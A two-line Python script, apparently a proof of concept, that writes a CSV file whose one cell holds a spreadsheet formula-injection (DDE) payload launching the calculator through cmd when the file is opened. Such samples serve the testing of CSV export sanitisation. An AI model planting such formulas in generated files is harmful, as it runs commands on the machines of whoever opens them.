import pandas as pd
pd.DataFrame({"a": ["@SUM(1+1)*cmd|' /C calc'!A0"]}).to_csv("x.csv")
